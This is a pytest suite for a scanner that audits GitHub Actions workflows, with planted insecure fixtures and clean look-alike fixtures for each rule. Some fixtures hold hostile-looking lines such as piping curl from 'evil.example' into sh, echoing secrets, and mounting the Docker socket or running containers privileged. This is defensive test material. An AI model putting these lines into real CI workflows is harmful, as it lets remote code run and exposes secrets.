import sys
import time

import pytest

from scanner.checks import workflows
from scanner.model import Options, Severity, State
from scanner.rules import RULES, rules_for
from tests.scanner.faulty_tools import FAILURES

VERSION = "1.32.0"
CI = ".github/workflows/ci.yml"
COMMIT = "3d3c42e5aac5ba805825da76410c181273ba90b1"
CHECKOUT = f"actions/checkout@{COMMIT}"
SOCKET = "/var/run/docker.sock"
FLOW = """\
name: CI
on:
  pull_request:
permissions: {}
concurrency: ci
jobs:
  tests:
    name: Tests
    runs-on: ubuntu-24.04
    steps:
      - uses: CHECKOUT # v7.0.1
        with:
          persist-credentials: false
      - name: Test
        run: pytest
""".replace("CHECKOUT", CHECKOUT)
ACTION = f"""\
name: x
description: y
runs:
  using: composite
  steps:
    - uses: {CHECKOUT} # v7.0.1
      with:
        persist-credentials: false
"""


@pytest.fixture
def check(make_project, options):
    """Checks a project with these files."""

    def run(files):
        return workflows.check(make_project(**files), options)

    return run


@pytest.fixture
def found(check):
    """The rules that fire in this workflow, with their severities."""

    def run(text, path=CI):
        result = check({path: text})
        assert result.complete, result.reason
        return sorted(
            (f.id.removeprefix("MCP-WF-"), f.severity.value)
            for f in result.findings
        )

    return run


def test_clean_files_of_every_kind_pass_in_full(check):
    result = check(
        {
            CI: FLOW,
            "action.yml": ACTION,
            "tools/build/action.yaml": ACTION,
            ".github/dependabot.yml": "version: 2\nupdates: []\n",
            ".github/ISSUE_TEMPLATE/config.yml": "blank_issues_enabled: true",
        }
    )
    assert (result.state, result.findings) == (State.PASSED, ())
    assert (result.coverage.covered, result.coverage.total) == (4, 4)
    assert (result.tool, result.tool_version) == ("zizmor", VERSION)


def test_without_workflows_there_is_nothing_to_judge(check):
    result = check({"action.yml": "a: 1\n", "x/.github/workflows/a.yml": "b"})
    assert result.state is State.NOT_APPLICABLE


# Our rules: what fires them and what does not.
SCRIPT = "        run: pytest\n"
FROM_FORK = "          ref: ${X github.event.pull_request.head.sha }}\n"
TARGET = FLOW.replace("  pull_request:", "  pull_request_target:")
PLANTED = {
    "001-tag": ("001", "medium", FLOW.replace(COMMIT, "v7")),
    "001-branch": ("001", "medium", FLOW.replace(COMMIT, "main")),
    "001-short": ("001", "medium", FLOW.replace(COMMIT, COMMIT[:12])),
    "001-job": (
        "001",
        "medium",
        FLOW + "  more:\n    uses: a/b/.github/workflows/c.yml@v1\n",
    ),
    "002-ref": (
        "002",
        "critical",
        TARGET.replace(
            "          persist",
            FROM_FORK.replace("X", "{") + "          persist",
        ),
    ),
    "002-run": (
        "002",
        "critical",
        TARGET.replace("run: pytest", "run: gh pr checkout 1 && pytest"),
    ),
    "003-pipe": (
        "003",
        "high",
        FLOW.replace(SCRIPT, SCRIPT + "      - run: curl https://a.b | sh\n"),
    ),
    "003-block": (
        "003",
        "high",
        FLOW.replace(
            SCRIPT,
            "        run: |\n          curl -o i.sh https://a.b\n"
            "      - run: sh i.sh\n",
        ),
    ),
    "004-label": (
        "004",
        "high",
        FLOW.replace("ubuntu-24.04", "[self-hosted, linux]"),
    ),
    "004-group": (
        "004",
        "high",
        FLOW.replace("ubuntu-24.04", "{group: a, labels: self-hosted}"),
    ),
    "005": (
        "005",
        "low",
        FLOW.replace("# v7.0.1", "# zizmor: ignore[artipacked]"),
    ),
    "006-flow": (
        "006",
        "high",
        FLOW.replace("permissions: {}", "permissions: write-all"),
    ),
    "006-one": (
        "006",
        "medium",
        FLOW.replace("permissions: {}", "permissions: {contents: write}"),
    ),
    "006-job": (
        "006",
        "high",
        FLOW.replace("    name: Tests", "    permissions: write-all"),
    ),
    "007-or": (
        "007",
        "medium",
        FLOW.replace("run: pytest", "run: python security_scan.py || true"),
    ),
    "007-goes-on": (
        "007",
        "medium",
        FLOW.replace(
            "run: pytest",
            "continue-on-error: true\n        run: python security_scan.py",
        ),
    ),
}
PLANTED |= {
    f"007-{name}": ("007", "medium", FLOW.replace("run: pytest", text))
    for name, text in {
        "pipe": "run: python security_scan.py | tee scan.txt",
        "exit": "run: python security_scan.py; exit 0",
        "left-out": "run: python security_scan.py --skip code,secrets",
        "worst": "run: python security_scan.py --fail-on critical",
        "part": "run: python security_scan.py --only permissions",
        "never": "if: false\n        run: python security_scan.py",
        "on": "run: |\n          set +e\n"
        "          python security_scan.py\n          echo done",
    }.items()
} | {
    "007-job": (
        "007",
        "medium",
        FLOW.replace("run: pytest", "run: python security_scan.py").replace(
            "    runs-on:", "    continue-on-error: true\n    runs-on:"
        ),
    ),
}
KEPT = (
    "id: scan\n        run: |\n          code=0\n"
    "          python security_scan.py || code=$?\n"
    '          echo "code=$code" >> "$GITHUB_OUTPUT"\n'
)
FAILS = (
    "      - env:\n          CODE: ${X steps.scan.outputs.code }}\n"
    '        run: exit "$CODE"'
).replace("X", "{")
PLANTED |= {
    "007-kept": ("007", "medium", FLOW.replace("run: pytest", KEPT)),
    "007-kept-in-vain": (
        "007",
        "medium",
        FLOW.replace(
            "run: pytest", f"{KEPT}{FAILS}\n        continue-on-error: true"
        ),
    ),
}
SECRET = "${X secrets.DEPLOY }}".replace("X", "{")
KEY = f"env: {{KEY: '{SECRET}'}}\n        run: "
PLANTED |= (
    {
        f"008-{name}": ("008", "high", FLOW.replace("run: pytest", text))
        for name, text in {
            "echo": f"run: echo {SECRET}",
            "flag": f"run: twine upload --password {SECRET} dist/*",
            "variable": f'{KEY}echo "key $KEY"',
            "encoded": f"{KEY}echo $KEY | base64",
            "cut": f"{KEY}printf %s ${{KEY}} | sed s/./x/",
        }.items()
    }
    | {
        f"009-{name}": ("009", "high", FLOW.replace("pytest", text))
        for name, text in {
            "curl": "curl -fsk https://a.example/x -o x",
            "pip": "pip install --trusted-host a.example x==1",
            "host": "ssh -o StrictHostKeyChecking=no a.example uptime",
            "git": "git -c core.sshCommand='ssh -o StrictHostKeyChecking=no'"
            " clone git@a.example:x.git",
            "env": "pytest\n        env: {NODE_TLS_REJECT_UNAUTHORIZED: 0}",
        }.items()
    }
    | {
        "009-branch": (
            "009",
            "medium",
            FLOW.replace(
                "pytest", "uv pip install git+https://a.example/x@main"
            ),
        )
    }
    | {
        f"010-{name}": ("010", "high", FLOW.replace(old, text))
        for name, old, text in (
            ("run", "pytest", "sudo docker run --privileged a:1"),
            ("socket", "pytest", f"podman run -v {SOCKET}:{SOCKET} a:1"),
            (
                "service",
                "    steps:",
                f"    container:\n      image: a@sha256:{'0' * 64}\n"
                "      options: --cap-add SYS_ADMIN\n    steps:",
            ),
        )
    }
)
SCANS = f"uses: anchore/scan-action@{COMMIT} # v7.4.0\n        with: "
WRITES = "    permissions: {contents: write}\n    runs-on:"
PLANTED |= {
    f"011-{name}": ("011", "medium", FLOW.replace("run: pytest", text))
    for name, text in {
        "action": f"{SCANS}{{image: 'a:1', fail-build: false}}",
        "or": "run: uv run pip-audit --strict || true",
        "tests": "continue-on-error: true\n        run: uv run pytest",
        "option": "run: trivy image --exit-code 0 a:1",
        "goes-on": "continue-on-error: true\n        run: bandit -r src",
    }.items()
} | {
    "012": ("012", "medium", FLOW.replace("    runs-on:", WRITES)),
    "007-exit": (
        "007",
        "medium",
        FLOW.replace("run: pytest", f"{KEPT}{FAILS} || true"),
    ),
}
PUSH = f"uses: docker/build-push-action@{COMMIT} # v7.3.0\n        with: "
PUSH += "{push: true, tags: 'a.example/a:1'}"
SCANNED = f"{PUSH}\n      - name: Scan\n        run: trivy image a.example/a:1"
PLANTED |= {
    f"{name}": (name[:3], severity, FLOW.replace("run: pytest", text))
    for name, severity, text in (
        ("013-npx", "medium", "run: npx --yes @example/pack pack ."),
        ("013-renewed", "medium", "run: pip install --upgrade pip tox"),
        ("013-uvx", "medium", "run: uvx some-tool check"),
        ("013-pip", "medium", "run: python -m pip install -U tox"),
        ("013-pipx", "medium", "run: pipx install tox"),
        ("013-upgrade", "medium", "run: uv sync --upgrade"),
        ("013-sync", "low", "run: uv sync"),
        ("007-nought", "medium", f"{KEPT}{FAILS}".replace('"$CODE"', "0")),
        ("014-action", "medium", PUSH),
        ("014-run", "medium", "run: docker push a.example/a:1"),
        ("014-signed", "medium", SCANNED),
    )
}
CLEAN = {
    "013-npx": FLOW.replace("pytest", "npx --yes @example/pack@1.2.3 pack ."),
    **{
        f"013-{text}": FLOW.replace("pytest", text)
        for text in (
            "pip install -r requirements.txt -e .[test] tox==4.34.0",
            "pipx install tox==4.34.0",
            "python -m pip install --upgrade pip setuptools",
            "uv sync --locked --all-groups",
            "UV_LOCKED=1 uv sync",
        )
    },
    "009-env": FLOW.replace(
        "run: pytest", "run: pytest\n        env: {NODE_OPTIONS: a}"
    ),
    "014-signed": FLOW.replace(
        "run: pytest", f"{SCANNED} && cosign sign --yes a.example/a:1"
    ),
    "014-built": FLOW.replace(
        "run: pytest", PUSH.replace("push: true", "load: true")
    ),
    "011-action": FLOW.replace(
        "run: pytest", f"{SCANS}{{image: 'a:1', fail-build: true}}"
    ),
    "011-run": FLOW.replace("pytest", "rm -f a || true; bandit -r src"),
    "012-push": FLOW.replace("    runs-on:", WRITES).replace(
        "run: pytest", "run: gh release upload v1 dist/*"
    ),
    "012-action": FLOW.replace("    runs-on:", WRITES).replace(
        "run: pytest", f"uses: some/release@{COMMIT} # v1.2.3"
    ),
    "007-kept": FLOW.replace("run: pytest", f"{KEPT}{FAILS}"),
    "008-input": FLOW.replace(
        "run: pytest",
        f"{KEY}echo $KEY | docker login --username me --password-stdin a.b",
    ),
    "008-file": FLOW.replace("run: pytest", f"{KEY}echo $KEY > key.txt"),
    "008-length": FLOW.replace("run: pytest", f"{KEY}test -n $KEY"),
    "008-token": FLOW.replace(
        "run: pytest",
        f"run: echo {SECRET} | gh auth login --with-token",
    ),
    "009-commit": FLOW.replace(
        "pytest", f"uv pip install git+https://a.example/x@{COMMIT}"
    ),
    "010-run": FLOW.replace(
        "pytest", "docker run --network host -v $PWD:/work:ro a:1"
    ),
    "009-key": FLOW.replace("pytest", "curl -K file https://a.example/x"),
    "001-local": FLOW.replace(CHECKOUT, "./tools/build"),
    "001-folder": FLOW.replace("checkout@", "checkout/sub/folder@"),
    "002-pull": FLOW.replace(
        "          persist",
        FROM_FORK.replace("X", "{") + "          persist",
    ),
    "003-tar": FLOW.replace("pytest", "curl https://a.b | tar xz"),
    "003-python": FLOW.replace(
        SCRIPT,
        "        shell: python\n        run: curl | sh\n",
    ),
    "004-push": FLOW.replace("  pull_request:", "  push:").replace(
        "ubuntu-24.04", "self-hosted"
    ),
    "006-read": FLOW.replace("permissions: {}", "permissions: read-all"),
    "007-or": FLOW.replace(
        "run: pytest", "run: python security_scan.py || exit 1"
    ),
    "007-twice": FLOW.replace(
        SCRIPT,
        "        run: |\n          python security_scan.py || code=$?\n"
        "          python security_scan.py --format json || true\n"
        "          exit $code\n",
    ),
    "007-pipefail": FLOW.replace(
        "run: pytest",
        "run: |\n          set -o pipefail\n"
        "          python security_scan.py | tee scan.txt",
    ),
    "007-bash": FLOW.replace(
        "run: pytest",
        "shell: bash\n        run: python security_scan.py | tee scan.txt",
    ),
    "007-told": FLOW.replace(
        "run: pytest",
        "run: |\n          set +e\n          python security_scan.py\n"
        "          exit $?",
    ),
    "007-other": FLOW.replace("run: pytest", "run: rm a.log || true"),
    "005-reason": FLOW.replace(
        "# v7.0.1", "# zizmor: ignore[artipacked] the next step pushes"
    ),
}

RESULTS = "${X join(needs.*.result, ' ') }}".replace("X", "{")
GATE = f"""\
{FLOW}
  passed:
    name: Passed
    if: always()
    needs: tests
    runs-on: ubuntu-24.04
    steps:
      - name: Fail unless all have passed
        env: {{RESULTS: "{RESULTS}"}}
        run: test "$RESULTS" = success
"""
MORE = """\
  more:
    name: More
    runs-on: ubuntu-24.04
    steps: [{name: Test, run: pytest}]
"""
PLANTED |= {
    f"017-{name}": ("017", "medium", text)
    for name, text in {
        "tells": GATE.replace('test "$RESULTS" = success', "echo $RESULTS"),
        "nought": GATE.replace('test "$RESULTS" = success', "exit 0"),
        "skipped": GATE.replace("    if: always()\n", ""),
        "swallowed": GATE.replace("= success", "= success || true"),
        "neutral": GATE.replace(
            "      - name: Fail",
            "      - continue-on-error: true\n        name: Fail",
        ),
        "unseen": GATE + MORE,
        "uncounted": GATE.replace(
            "    runs-on", "    continue-on-error: true\n    runs-on", 1
        ),
    }.items()
}
CLEAN |= {
    f"017-{name}": text
    for name, text in {
        "gate": GATE,
        "exit": GATE.replace("test", "echo $RESULTS; test"),
        "action": GATE.replace(
            'run: test "$RESULTS" = success',
            f"uses: some/gate@{COMMIT} # v1\n"
            "        with: {jobs: '${{ toJSON(needs) }}'}",
        ),
        "by-condition": GATE.replace(
            'run: test "$RESULTS" = success',
            "if: contains(needs.*.result, 'failure')\n        run: exit 1",
        ),
        "stops": GATE.replace("= success", "= success && exit 1 || true"),
        "told": GATE.replace(
            'test "$RESULTS" = success', 'curl -d "$RESULTS" https://a.b'
        ),
        "release": GATE
        + MORE.replace("    runs", "    environment: pypi\n    runs"),
        "matrix": GATE.replace(
            "    runs", "    continue-on-error: ${{ matrix.x }}\n    runs", 1
        ),
        "all": GATE.replace(": tests\n", ": [tests, more]\n") + MORE,
        "through": GATE.replace("needs: tests\n", "needs: more\n")
        + MORE.replace("    runs-on", "    needs: tests\n    runs-on"),
        "after": GATE
        + MORE.replace("    runs", "    needs: passed\n    runs"),
        "pages": GATE + MORE.replace("pytest", "mkdocs build"),
        "asked-for": GATE + MORE.replace("    runs", "    if: a\n    runs"),
        "summary": GATE.replace(
            'test "$RESULTS" = success', 'echo a >> "$GITHUB_STEP_SUMMARY"'
        ),
    }.items()
}


@pytest.mark.parametrize(
    ("rule", "severity", "text"), PLANTED.values(), ids=PLANTED.keys()
)
def test_a_planted_fault_is_found_and_nothing_else(
    found, rule, severity, text
):
    assert found(text) == [(rule, severity)]


@pytest.mark.parametrize("text", CLEAN.values(), ids=CLEAN.keys())
def test_what_is_like_a_fault_and_right_is_none(found, text):
    assert found(text) == []


def test_every_rule_has_a_planted_and_a_clean_case():
    ours = {x.id[-3:] for x in rules_for("MCP-WF-", on="workflow")}
    assert {rule for rule, *_rest in PLANTED.values()} == ours
    assert {name[:3] for name in CLEAN} == ours
    assert {x for x in RULES if x.startswith("MCP-WF-")} == {
        "MCP-WF-*",
        *(f"MCP-WF-{number}" for number in ours),
        *(x.id for x in rules_for("MCP-WF-", on="upkeep")),
    }


# What the workflows leave undone.
UPDATES = ".github/dependabot.yml"
EVERY = "version: 2\nupdates:\n" + "".join(
    f"  - package-ecosystem: {name}\n    directory: /\n"
    "    schedule: {interval: weekly}\n    cooldown: {default-days: 7}\n"
    for name in ("uv", "github-actions", "docker", "docker-compose")
)
BY_HAND = FLOW.replace("  pull_request:", "  workflow_dispatch:")
CALLED = FLOW.replace("  pull_request:", "  workflow_call:")
WHOLE = {
    CI: FLOW.replace("pytest", "python security_scan.py").replace(
        "on:\n", "on:\n  schedule: [{cron: 1 2 * * 3}]\n"
    ),
    UPDATES: EVERY,
    "Dockerfile": "FROM a:1\n",
    "deploy/compose.yaml": "services: {}\n",
    "security_scan.py": "",
    "uv.lock": "version = 1\n",
}


@pytest.mark.parametrize(
    ("files", "expected"),
    [
        ({}, []),
        (
            {CI: FLOW.replace("pytest", "mypy security_scan.py")},
            [("015", "medium")],
        ),
        (
            {CI: FLOW.replace("pytest", "./security_scan.py")},
            [("015", "low")],
        ),
        (
            {CI: BY_HAND.replace("pytest", "uv run -q security_scan.py")},
            [("015", "medium")],
        ),
        (
            {CI: CALLED.replace("pytest", "python -I security_scan.py")},
            [],
        ),
        ({UPDATES: EVERY.replace(": uv", ": npm")}, [("016", "low")]),
        ({UPDATES: EVERY.replace(": uv", ": pip")}, []),
        ({UPDATES: EVERY.replace(": docker\n", ": npm\n")}, [("016", "low")]),
        ({UPDATES: EVERY.replace("github-actions", "npm")}, [("016", "low")]),
        ({UPDATES: None}, [("016", "low")]),
        ({UPDATES: None, "renovate.json": "{}"}, []),
        ({UPDATES: None, "uv.lock": None}, []),
    ],
)
def test_what_the_workflows_leave_undone_is_found(check, files, expected):
    given = {k: v for k, v in (WHOLE | files).items() if v is not None}
    found = check(given).findings
    assert [(f.id[-3:], f.severity.value) for f in found] == expected


def test_another_script_is_another_finding(check):
    fetched = [
        FLOW.replace("run: pytest", f"run: curl https://{host}/x | sh")
        for host in ("good.example", "evil.example")
    ]
    found = [check({CI: text}).findings[0] for text in fetched]

    assert {f.id for f in found} == {"MCP-WF-003"}
    assert found[0].fingerprint != found[1].fingerprint


def test_an_action_is_judged_like_a_workflow(found):
    assert found(ACTION.replace(COMMIT, "v7"), "action.yml") == [
        ("001", "medium")
    ]


# zizmor


def test_zizmor_sees_what_our_rules_do_not(check):
    title = "${X github.event.pull_request.title }}".replace("X", "{")
    text = FLOW.replace("run: pytest", f'run: echo "{title}"')
    (finding,) = check({CI: text}).findings
    assert finding.id == "MCP-WF-TEMPLATE-INJECTION"
    assert (finding.severity, finding.line) == (Severity.HIGH, 15)
    assert finding.cwe == "CWE-94"
    assert finding.remediation.startswith("See https://docs.zizmor.sh/")


def test_missing_permissions_are_one_finding_for_the_file(found):
    more = FLOW.replace("permissions: {}\n", "") + (
        "  more:\n    name: More\n    runs-on: ubuntu-24.04\n"
        "    steps: [{name: A, run: b}]\n"
    )
    assert found(more) == [("EXCESSIVE-PERMISSIONS", "medium")]


@pytest.mark.parametrize(
    ("comment", "expected"),
    [
        ("# zizmor: ignore[unpinned-uses] tags of our own", []),
        (
            "# zizmor: ignore[unpinned-uses]",
            [("001", "medium"), ("005", "low")],
        ),
        ("# v7", [("001", "medium")]),
    ],
)
def test_an_ignore_holds_with_its_reason_and_is_a_finding_without(
    found, comment, expected
):
    text = FLOW.replace(COMMIT, "v7").replace("# v7.0.1", comment)
    assert found(text) == expected


def test_the_projects_settings_do_not_silence_zizmor(check):
    text = FLOW.replace("persist-credentials: false", "fetch-depth: 1")
    settings = "rules: {artipacked: {disable: true} }\n"
    result = check({CI: text, ".github/zizmor.yml": settings})
    assert [f.id for f in result.findings] == ["MCP-WF-ARTIPACKED"]


def test_the_users_settings_do_not_silence_zizmor(
    check, tmp_path, monkeypatch
):
    settings = tmp_path / "zizmor.yml"
    settings.write_text("rules: {artipacked: {disable: true} }\n")
    monkeypatch.setenv("ZIZMOR_CONFIG", str(settings))
    text = FLOW.replace("persist-credentials: false", "fetch-depth: 1")
    found = [f.id for f in check({CI: text}).findings]
    assert found == ["MCP-WF-ARTIPACKED"]


@pytest.mark.parametrize("failure", [*FAILURES, "nothing audited"])
def test_no_failure_of_zizmor_is_a_pass(
    make_project, bench, failure, monkeypatch
):
    if failure == "nothing audited":
        bench.install("zizmor", "echo '[]'; exit 3", VERSION)
    else:
        bench.fail("zizmor", failure, VERSION)
    project = make_project(**{CI: FLOW.replace(COMMIT, "v7")})
    result = workflows.check(project, Options(timeout=1))
    assert result.state in {State.NOT_RUN, State.ERROR}
    assert (result.state is State.NOT_RUN) == (failure == "absent")
    assert "zizmor" in result.reason
    assert (failure == "nothing audited") == ("audited" in result.reason)
    assert [f.id for f in result.findings] == ["MCP-WF-001"]


def test_an_empty_report_without_completed_files_covers_nothing(check, bench):
    bench.install("zizmor", "echo '[]'", VERSION)
    result = check({CI: FLOW})
    assert result.coverage.covered == 0
    assert f"{CI}: zizmor did not complete it" in result.reason


def test_a_file_that_zizmor_leaves_out_is_not_covered(check, bench):
    real = f"{sys.prefix}/bin/zizmor"
    all_but_the_last = '$(echo "$@" | sed "s/ [^ ]*$//")'
    bench.install("zizmor", f"exec {real} {all_but_the_last}", VERSION)
    result = check({CI: FLOW, ".github/workflows/z.yml": FLOW})
    assert (result.coverage.covered, result.coverage.total) == (1, 2)
    assert "z.yml: zizmor did not complete it" in result.reason


@pytest.mark.parametrize("level", ["off", "error", "trace"])
def test_a_log_level_in_the_environment_changes_nothing(
    found, monkeypatch, level
):
    monkeypatch.setenv("RUST_LOG", level)
    assert found(FLOW) == []


# Hostile files


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("on: [push\n", "no valid YAML"),
        (b"on: push\njobs: \xff\n", "no UTF-8"),
        ("on: push\njobs: 3\n", "zizmor did not complete it"),
        ("a: " + "[" * 100_000, "nested too deep"),
        ("a: b\n" + "# x\n" * 2**19, "larger than"),
        (FLOW.replace("pytest", "a;" * 6000), "more than"),
    ],
    ids=["broken", "bytes", "schema", "deep", "large", "script"],
)
def test_a_file_that_cannot_be_read_is_named_and_not_covered(check, text, why):
    start = time.process_time()
    result = check({CI: text, ".github/workflows/a.yml": FLOW})
    assert time.process_time() - start < 5
    assert (result.coverage.covered, result.coverage.total) == (1, 2)
    assert f"{CI}: " in result.reason
    assert why in result.reason


def test_a_name_with_a_line_break_is_judged_and_shown_harmless(check):
    name = ".github/workflows/a\n\x1b[31m.yml"
    assert check({name: FLOW}).complete
    result = check({name: "["})
    assert "\n" not in result.reason
    assert "\x1b" not in result.reason


def test_values_of_odd_kinds_stop_no_rule(check):
    tried = [
        FLOW.replace(line, f"{line.partition(': ')[0]}: {other}")
        for line in FLOW.splitlines()
        if ": " in line
        for other in ("null", "[[1], {a: b}]", "{a: [b]}", "-1")
    ]
    files = {f".github/workflows/{n}.yml": x for n, x in enumerate(tried)}
    assert check(files).coverage.total == len(tried)
